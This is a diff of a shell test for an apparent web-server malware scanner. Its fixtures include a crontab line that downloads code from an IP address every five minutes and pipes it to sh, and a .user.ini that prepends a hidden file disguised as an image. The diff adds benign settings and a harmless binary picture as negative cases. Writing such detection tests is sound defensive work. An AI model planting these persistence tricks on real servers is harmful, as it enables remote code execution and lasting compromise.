@@ -90,11 +90,12 @@ echo 'auto_prepend_file = "/tmp/.x.jpg"' >"$home/.user.ini"
 printf '# m h\n*/5 * * * * wget -qO- http://203.0.113.9/x | sh\n' >"$home/crontab"
 out=$(scan --plain "$home")
 for r in config.handler config.prepend.hidden config.cron.fetch; do has "$tab$r$tab"; ok $? "settings: $r"; done
-printf 'Options -Indexes\nRewriteEngine On\nRewriteRule ^x$ index.php [L]\nAddType image/webp .webp\n' >"$home/.htaccess"
+printf 'Options -Indexes -ExecCGI\nAddHandler cgi-script .php .php5 .pl .htm .txt\nRewriteEngine On\nRewriteRule ^x$ index.php [L]\nAddType image/webp .webp\n' >"$home/.htaccess"
 printf 'memory_limit = 256M\n' >"$home/.user.ini"
 rm "$home/crontab" "$home/sub/bad.php"
+printf 'P\0\1\377<?\300\001 `a$b\002` <?=\377`$c`' >"$home/picture.png"
 out=$(scan --plain "$home"); rc=$?
-ok $rc "ordinary settings are no finding"
+ok $rc "ordinary settings, and a picture that holds a tag by chance, are no finding"
 
 touch -d '10 days ago' "$home/fine.php"
 out=$(scan --plain --since '1 hour ago' "$home")
